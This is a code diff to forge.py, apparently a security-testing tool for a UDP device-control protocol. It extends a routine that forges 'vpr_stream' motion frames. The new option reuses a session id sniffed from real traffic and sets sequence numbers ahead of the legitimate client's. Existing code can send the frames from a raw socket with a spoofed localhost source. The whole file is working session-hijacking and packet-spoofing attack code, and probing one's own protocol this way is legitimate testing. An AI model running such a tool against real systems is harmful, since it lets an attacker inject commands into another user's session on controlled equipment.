@@ -5,11 +5,13 @@
       A blind v1 client (what worked before authentication): open_session,
       power on, impedance, then vpr_stream frames 0.2 m away at ~1 kHz,
       all with valid CRC-32C. Prints what it sent and whether anything came back.
-  forge.py forge HOST PORT COUNT [--spoof SRCPORT] [--rate N]
+  forge.py forge HOST PORT COUNT [--spoof SRCPORT] [--rate N] [--session ID]
       COUNT v2 vpr_stream frames (84 bytes, version 2, the right layout),
-      session ids 1..16, increasing sequence numbers, random tags. With
-      --spoof, sent from a raw socket with source 127.0.0.1:SRCPORT: the
-      session's own client address (needs root). --rate: datagrams/s.
+      session ids 1..16 (--session: always ID, the id an eavesdropper reads
+      in the session's own frames), increasing sequence numbers ahead of any
+      client's, random tags: only the tag can refuse them. With --spoof,
+      sent from a raw socket with source 127.0.0.1:SRCPORT: the session's
+      own client address (needs root). --rate: datagrams/s.
 """
 import os
 import socket
@@ -85,7 +87,7 @@ def udp_raw(src_port, dst, payload):
     return ip + udp
 
 
-def forge(host, port, count, spoof, rate):
+def forge(host, port, count, spoof, rate, session=None):
     if spoof is not None:
         s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     else:
@@ -94,7 +96,8 @@ def forge(host, port, count, spoof, rate):
     t0 = time.monotonic()
     sent = 0
     for i in range(count):
-        f = header(2, 0x0C, 0, 1 + i % 16, 1000 + i, i) + body + os.urandom(16)
+        sid = session if session is not None else 1 + i % 16
+        f = header(2, 0x0C, 0, sid, 1_000_000 + i, i) + body + os.urandom(16)
         if spoof is not None:
             s.sendto(udp_raw(spoof, (host, port), f), (host, 0))
         else:
@@ -105,7 +108,8 @@ def forge(host, port, count, spoof, rate):
             if ahead > 0:
                 time.sleep(ahead)
     dt = time.monotonic() - t0
-    print(f"forged: sent {sent} v2 frames{' spoofed from port %d' % spoof if spoof is not None else ''} in {dt:.1f} s")
+    print(f"forged: sent {sent} v2 frames{' spoofed from port %d' % spoof if spoof is not None else ''}"
+          f"{' with session id %d' % session if session is not None else ''} in {dt:.1f} s")
 
 
 def main(a):
@@ -114,7 +118,8 @@ def main(a):
     elif len(a) >= 4 and a[0] == "forge":
         spoof = int(a[a.index("--spoof") + 1]) if "--spoof" in a else None
         rate = int(a[a.index("--rate") + 1]) if "--rate" in a else 0
-        forge(a[1], int(a[2]), int(a[3]), spoof, rate)
+        session = int(a[a.index("--session") + 1]) if "--session" in a else None
+        forge(a[1], int(a[2]), int(a[3]), spoof, rate, session)
     else:
         print(__doc__, file=sys.stderr)
         sys.exit(2)
